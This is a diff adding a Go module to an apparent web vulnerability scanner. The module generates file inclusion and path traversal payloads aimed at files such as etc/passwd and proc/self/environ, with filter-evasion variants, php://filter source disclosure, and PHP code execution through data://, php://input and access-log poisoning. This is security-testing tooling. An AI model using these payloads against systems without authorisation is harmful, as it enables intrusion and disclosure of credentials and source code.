@@ -0,0 +1,270 @@
+// pkg/tools/webvuln/inclusion.go
+package webvuln
+
+import (
+	"GopherStrike/pkg/session"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net/url"
+	"regexp"
+	"strings"
+)
+
+// InclusionFile is a file the file inclusion test tries to read, with the
+// patterns that prove its content was included
+type InclusionFile struct {
+	Path     string   // Path from the filesystem root with forward slashes, e.g. "etc/passwd"
+	OS       string   // "linux" or "windows"
+	Patterns []string // Regular expressions matching the file content
+}
+
+// DefaultInclusionFiles returns the files read by the file inclusion test
+func DefaultInclusionFiles() []InclusionFile {
+	return []InclusionFile{
+		{Path: "etc/passwd", OS: "linux", Patterns: []string{`root:[^:\n]*:0:0:`}},
+		{Path: "etc/hosts", OS: "linux", Patterns: []string{`127\.0\.0\.1\s+localhost`}},
+		{Path: "proc/self/environ", OS: "linux", Patterns: []string{`(PATH|HOME|DOCUMENT_ROOT)=/`}},
+		{Path: "windows/win.ini", OS: "windows", Patterns: []string{`\[(fonts|extensions|mci extensions)\]`}},
+		{Path: "windows/system32/drivers/etc/hosts", OS: "windows", Patterns: []string{`127\.0\.0\.1\s+localhost`}},
+		{Path: "boot.ini", OS: "windows", Patterns: []string{`\[boot loader\]`}},
+	}
+}
+
+// Traversal payloads climb between minTraversalDepth and maxTraversalDepth
+// directories, since the depth of the included directory is unknown
+const (
+	minTraversalDepth = 1
+	maxTraversalDepth = 10
+)
+
+// traversalSequence is a way of writing one directory up in a traversal
+type traversalSequence struct {
+	Name   string
+	Step   string // One directory up, with / as separator
+	Suffix string // Appended after the file path
+	Level  int
+}
+
+// traversalSequences are tried in order, so plain traversals are confirmed
+// before the filter evasion variants are sent
+var traversalSequences = []traversalSequence{
+	{Name: "plain", Step: "../", Level: 1},
+	{Name: "nested", Step: "....//", Level: 2},     // Survives a single pass stripping ../
+	{Name: "url-encoded", Step: "..%2f", Level: 2}, // For targets decoding the parameter twice
+	{Name: "encoded dots", Step: "%2e%2e/", Level: 2},
+	{Name: "null byte", Step: "../", Suffix: "%00", Level: 3}, // Cuts off an appended extension
+}
+
+// logFiles are the web server access logs tried by log poisoning
+var logFiles = []string{
+	"var/log/apache2/access.log",
+	"var/log/httpd/access_log",
+	"var/log/nginx/access.log",
+	"proc/self/fd/1",
+}
+
+// inclusionMatcher is an InclusionFile with compiled patterns
+type inclusionMatcher struct {
+	file     InclusionFile
+	patterns []*regexp.Regexp
+}
+
+// inclusionMatchers compiles the inclusion files for the configured OS.
+// Files with invalid patterns are skipped.
+func (s *Scanner) inclusionMatchers() []inclusionMatcher {
+	files := s.ScanOptions.FileInclusionFiles
+	if len(files) == 0 {
+		files = DefaultInclusionFiles()
+	}
+
+	matchers := []inclusionMatcher{}
+	for _, file := range files {
+		if s.ScanOptions.FileInclusionOS != "" && !strings.EqualFold(file.OS, s.ScanOptions.FileInclusionOS) {
+			continue
+		}
+
+		matcher := inclusionMatcher{file: file}
+		for _, pattern := range file.Patterns {
+			re, err := regexp.Compile(pattern)
+			if err != nil {
+				fmt.Printf("[!] Skipping inclusion file %s: %v\n", file.Path, err)
+				matcher.patterns = nil
+				break
+			}
+			matcher.patterns = append(matcher.patterns, re)
+		}
+		if len(matcher.patterns) > 0 {
+			matchers = append(matchers, matcher)
+		}
+	}
+	return matchers
+}
+
+// inclusionPayloads generates an absolute path payload for each inclusion
+// file, followed by its traversal payloads
+func inclusionPayloads(matchers []inclusionMatcher) []Payload {
+	payloads := []Payload{}
+	for _, matcher := range matchers {
+		path := strings.TrimPrefix(matcher.file.Path, "/")
+		absolute := "/" + path
+		if strings.EqualFold(matcher.file.OS, "windows") {
+			absolute = "C:\\" + strings.ReplaceAll(path, "/", "\\")
+		}
+		payloads = append(payloads, Payload{Value: absolute, Type: VulnTypeFileInclusion, Description: "Absolute path to " + path, Level: 1})
+	}
+	return append(payloads, traversalPayloads(matchers)...)
+}
+
+// traversalPayloads generates traversal payloads for every sequence, depth
+// and inclusion file, ordered by sequence and then by increasing depth so the
+// shallowest working traversal is found first
+func traversalPayloads(matchers []inclusionMatcher) []Payload {
+	windowsSeparators := strings.NewReplacer("/", "\\", "%2f", "%5c")
+
+	payloads := []Payload{}
+	for _, sequence := range traversalSequences {
+		for depth := minTraversalDepth; depth <= maxTraversalDepth; depth++ {
+			for _, matcher := range matchers {
+				path := strings.TrimPrefix(matcher.file.Path, "/")
+				value := strings.Repeat(sequence.Step, depth) + path + sequence.Suffix
+				if strings.EqualFold(matcher.file.OS, "windows") {
+					value = windowsSeparators.Replace(value)
+				}
+
+				payloads = append(payloads, Payload{
+					Value:       value,
+					Type:        VulnTypeFileInclusion,
+					Description: fmt.Sprintf("Path traversal to %s (%s, depth %d)", path, sequence.Name, depth),
+					Level:       sequence.Level,
+				})
+			}
+		}
+	}
+	return payloads
+}
+
+// matchInclusion returns the inclusion file and pattern found in a response.
+// Patterns already in the baseline page don't count.
+func matchInclusion(matchers []inclusionMatcher, body, baseline string) (string, string, bool) {
+	for _, matcher := range matchers {
+		for _, pattern := range matcher.patterns {
+			if pattern.MatchString(body) && !pattern.MatchString(baseline) {
+				return matcher.file.Path, pattern.FindString(body), true
+			}
+		}
+	}
+	return "", "", false
+}
+
+// base64Pattern matches base64 blocks long enough to hold source code
+var base64Pattern = regexp.MustCompile(`[A-Za-z0-9+/]{40,}={0,2}`)
+
+// testSourceDisclosure tries to read the source of the included page with
+// the php://filter wrapper, which only reads files
+func (s *Scanner) testSourceDisclosure(target ScanTarget, targetURL *url.URL, params url.Values, paramName string) (TestResult, bool) {
+	original := params.Get(paramName)
+	resources := []string{original}
+	if !strings.HasSuffix(original, ".php") {
+		resources = append(resources, original+".php")
+	}
+
+	for _, resource := range resources {
+		value := "php://filter/convert.base64-encode/resource=" + resource
+		attempt, err := s.sendEncoded(target, targetURL, params, paramName, Payload{Value: value}, nil)
+		if err != nil {
+			continue
+		}
+
+		for _, block := range base64Pattern.FindAllString(attempt.Body, -1) {
+			source, err := base64.StdEncoding.DecodeString(block)
+			if err != nil || !(strings.Contains(string(source), "<?php") || strings.Contains(string(source), "<?=")) {
+				continue
+			}
+			return TestResult{
+				Payload: Payload{
+					Value:       value,
+					Type:        VulnTypeFileInclusion,
+					Description: "PHP filter wrapper for source disclosure",
+					Level:       3,
+				},
+				URL:         attempt.URL,
+				Method:      "GET",
+				Parameter:   paramName,
+				Description: fmt.Sprintf("File Inclusion Vulnerability: Source code of '%s' disclosed through php://filter", resource),
+				Severity:    SeverityCritical,
+				Body:        attempt.Body,
+			}, true
+		}
+	}
+	return TestResult{}, false
+}
+
+// executionMarker returns PHP code printing a random marker and the output
+// it gives when it runs. The marker is split in the code so that an
+// unexecuted reflection doesn't match.
+func executionMarker() (string, string) {
+	b := make([]byte, 6)
+	session.Read(b)
+	marker := hex.EncodeToString(b)
+	return fmt.Sprintf("<?php echo 'gs'.'%s'; ?>", marker), "gs" + marker
+}
+
+// testIntrusiveInclusion proves code execution through a file inclusion
+// with the data:// and php://input wrappers and by poisoning the access logs
+// with PHP code in the User-Agent. These tests run code on the target and
+// write to its logs, so they only run with IntrusiveTests.
+func (s *Scanner) testIntrusiveInclusion(target ScanTarget, targetURL *url.URL, params url.Values, paramName string) []TestResult {
+	code, output := executionMarker()
+	results := []TestResult{}
+
+	finding := func(value, method, technique string) TestResult {
+		return TestResult{
+			Payload: Payload{
+				Value:       value,
+				Type:        VulnTypeFileInclusion,
+				Description: technique,
+				Level:       5,
+				Intrusive:   true,
+			},
+			URL:         payloadURL(targetURL, params, paramName, value),
+			Method:      method,
+			Parameter:   paramName,
+			Description: fmt.Sprintf("[intrusive] Remote Code Execution through File Inclusion: %s ran injected PHP code", technique),
+			Severity:    SeverityCritical,
+		}
+	}
+
+	// data:// wrapper
+	dataValue := "data://text/plain;base64," + base64.StdEncoding.EncodeToString([]byte(code))
+	if attempt, err := s.sendEncoded(target, targetURL, params, paramName, Payload{Value: dataValue}, nil); err == nil && strings.Contains(attempt.Body, output) {
+		results = append(results, finding(dataValue, "GET", "data:// wrapper"))
+	}
+
+	// php://input wrapper with the code as request body
+	inputURL := payloadURL(targetURL, params, paramName, "php://input")
+	if resp, err := s.sendRequest(target, "POST", inputURL, map[string]string{"Content-Type": "text/plain"}, code); err == nil {
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if strings.Contains(string(body), output) {
+			results = append(results, finding("php://input", "POST", "php://input wrapper"))
+		}
+	}
+
+	// Log poisoning: write the code to the access log, then include the log
+	if resp, err := s.sendRequest(target, "GET", "", map[string]string{"User-Agent": code}, ""); err == nil {
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+
+		for _, log := range logFiles {
+			for _, value := range []string{"/" + log, strings.Repeat("../", maxTraversalDepth) + log} {
+				attempt, err := s.sendEncoded(target, targetURL, params, paramName, Payload{Value: value}, nil)
+				if err == nil && strings.Contains(attempt.Body, output) {
+					return append(results, finding(value, "GET", "log poisoning of "+log))
+				}
+			}
+		}
+	}
+	return results
+}